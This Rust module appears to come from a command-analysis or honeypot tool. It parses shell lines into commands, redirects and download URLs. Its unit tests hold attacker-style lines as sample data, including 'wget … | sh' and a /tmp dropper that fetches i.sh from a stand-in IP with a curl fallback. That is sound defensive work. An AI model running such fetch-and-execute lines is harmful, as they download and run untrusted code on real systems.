//! How a line falls into commands and words, as a POSIX shell reads it; nothing is expanded but sums.

use alloc::vec::Vec;

/// Commands of one line that are looked at.
const COMMANDS_MAX: usize = 64;
/// Words of one command that are looked at, and their bytes together.
const WORDS_MAX: usize = 128;
/// Addresses of one line that are told.
const DOWNLOADS_MAX: usize = 8;
const SCHEMES: [&[u8]; 4] = [b"http://", b"https://", b"ftp://", b"tftp://"];

/// What stands between a command and the one before it.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) enum Joint {
    /// `;`, `&` or a new line: it runs in any case.
    #[default]
    Then,
    And,
    Or,
    Pipe,
}

/// A command: its words without their quotes.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Command {
    pub(super) joint: Joint,
    pub(super) words: Vec<Vec<u8>>,
    /// What it prints goes to a file.
    pub(super) to_file: bool,
    /// What it complains of goes nowhere, or where the rest goes.
    pub(super) quiet: bool,
}

impl Command {
    pub(super) fn slices(&self) -> Vec<&[u8]> {
        self.words.iter().map(Vec::as_slice).collect()
    }
}

/// The commands of a line, in one pass over it.
pub(super) fn commands(line: &[u8]) -> Vec<Command> {
    let line = super::arithmetic::expanded(line);
    let mut reader = Reader { rest: &line, done: Vec::new(), command: Command::default(), word: None };
    while reader.done.len() < COMMANDS_MAX && reader.step() {}
    reader.end_command(Joint::Then);
    reader.done
}

struct Reader<'a> {
    rest: &'a [u8],
    done: Vec<Command>,
    command: Command,
    word: Option<Vec<u8>>,
}

impl Reader<'_> {
    fn step(&mut self) -> bool {
        let (skip, joint) = match self.rest {
            [] => return false,
            [b'&', b'&', ..] => (2, Joint::And),
            [b'|', b'|', ..] => (2, Joint::Or),
            [b'|', ..] => (1, Joint::Pipe),
            [b';' | b'\n', ..] => (1, Joint::Then),
            [b'&', b'>', rest @ ..] => {
                self.rest = rest;
                self.command.quiet = true;
                return self.redirect();
            }
            [b'&', ..] => (1, Joint::Then),
            _ => return self.in_command(),
        };
        self.rest = &self.rest[skip..];
        self.end_command(joint);
        true
    }

    fn in_command(&mut self) -> bool {
        let [first, behind @ ..] = self.rest else { return false };
        let rest = self.rest;
        self.rest = behind;
        match first {
            b'\'' => self.quoted(b'\''),
            b'"' => self.quoted(b'"'),
            b'\\' => {
                if let [escaped, further @ ..] = behind {
                    self.push(*escaped);
                    self.rest = further;
                }
            }
            b'#' if self.word.is_none() => {
                let end = memchr::memchr(b'\n', rest).unwrap_or(rest.len());
                self.rest = &rest[end..];
            }
            b'2' if self.word.is_none() && behind.first() == Some(&b'>') => {
                self.command.quiet = true;
                self.rest = &behind[1..];
                self.skip_target();
            }
            b'>' => return self.redirect(),
            byte if byte.is_ascii_whitespace() => self.end_word(),
            byte => self.push(*byte),
        }
        true
    }

    /// Behind `>`.
    fn redirect(&mut self) -> bool {
        self.end_word();
        self.command.to_file = true;
        self.skip_target();
        true
    }

    /// The file's name, or `&1`.
    fn skip_target(&mut self) {
        self.rest = self.rest.strip_prefix(b">").unwrap_or(self.rest);
        self.rest = self.rest.strip_prefix(b"&").unwrap_or(self.rest).trim_ascii_start();
        let end = self.rest.iter().position(|byte| matches!(byte, b' ' | b';' | b'&' | b'|' | b'\n')).unwrap_or(self.rest.len());
        self.rest = &self.rest[end..];
    }

    fn quoted(&mut self, quote: u8) {
        let end = memchr::memchr(quote, self.rest).unwrap_or(self.rest.len());
        self.word.get_or_insert_default().extend_from_slice(&self.rest[..end]);
        self.rest = self.rest.get(end + 1..).unwrap_or_default();
    }

    fn push(&mut self, byte: u8) {
        self.word.get_or_insert_default().push(byte);
    }

    fn end_word(&mut self) {
        if let Some(word) = self.word.take()
            && self.command.words.len() < WORDS_MAX
        {
            self.command.words.push(word);
        }
    }

    fn end_command(&mut self, joint: Joint) {
        self.end_word();
        let next = Command { joint, ..Command::default() };
        let command = core::mem::replace(&mut self.command, next);
        if !command.words.is_empty() {
            self.done.push(command);
        } else {
            // `;;` and the like: what was said first counts.
            self.command.joint = if command.joint == Joint::Then { joint } else { command.joint };
        }
    }
}

/// The addresses that a line names, wherever they stand in it.
pub(crate) fn downloads(line: &[u8]) -> Vec<&[u8]> {
    let ends =
        |byte: &u8| byte.is_ascii_whitespace() || matches!(byte, b'\'' | b'"' | b'`' | b';' | b'|' | b'&' | b')' | b'<' | b'>');
    let mut found: Vec<&[u8]> = Vec::new();
    let mut at = 0;
    while let Some(colon) = memchr::memmem::find(&line[at..], b"://") {
        let behind = at + colon + 3;
        let start = SCHEMES.iter().filter_map(|scheme| {
            let start = behind.checked_sub(scheme.len())?;
            line[start..behind].eq_ignore_ascii_case(scheme).then_some(start)
        });
        // The longest scheme that ends here.
        if let Some(start) = start.min() {
            let end = line[behind..].iter().position(ends).map_or(line.len(), |end| behind + end);
            if end > behind {
                found.push(&line[start..end]);
            }
        }
        if found.len() >= DOWNLOADS_MAX {
            break;
        }
        at = behind;
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::drive::said;
    use alloc::{format, string::String};

    fn shown(line: &str) -> String {
        let parts = commands(line.as_bytes()).into_iter().map(|command| {
            let words: Vec<String> = command.words.iter().map(|word| said(word)).collect();
            format!(
                "{:?}{:?}{}{}",
                command.joint,
                words,
                if command.to_file { ">" } else { "" },
                if command.quiet { "!" } else { "" }
            )
        });
        parts.collect::<Vec<_>>().join(" ")
    }

    #[test]
    fn lines_fall_into_commands_as_a_shell_reads_them() {
        let table = [
            ("uname -a", r#"Then["uname", "-a"]"#),
            ("a; b && c || d | e & f", r#"Then["a"] Then["b"] And["c"] Or["d"] Pipe["e"] Then["f"]"#),
            (r#"echo 'a; b' "c d"x\ y"#, r#"Then["echo", "a; b", "c dx y"]"#),
            ("wget x -O- 2>/dev/null | sh", r#"Then["wget", "x", "-O-"]! Pipe["sh"]"#),
            ("cat a > /tmp/b; id", r#"Then["cat", "a"]> Then["id"]"#),
            ("x >/dev/null 2>&1 && y", r#"Then["x"]>! And["y"]"#),
            ("x &> /dev/null; y", r#"Then["x"]>! Then["y"]"#),
            ("# nothing\nid", r#"Then["id"]"#),
            (";;;", ""),
            ("'", r#"Then[""]"#),
        ];
        for (line, expected) in table {
            assert_eq!(shown(line), expected, "{line}");
        }
        assert_eq!(commands("a;".repeat(1_000).as_bytes()).len(), COMMANDS_MAX);
    }

    #[test]
    fn addresses_are_found_wherever_they_stand() {
        let line = b"cd /tmp; wget http://198.51.100.9/i.sh||curl -O 'HTTPS://b.example/x'; tftp://c ://d http://";
        let found: Vec<String> = downloads(line).into_iter().map(said).collect();
        assert_eq!(found, ["http://198.51.100.9/i.sh", "HTTPS://b.example/x", "tftp://c"]);
        assert_eq!(downloads(&b"http://a ".repeat(50)).len(), DOWNLOADS_MAX);
    }
}
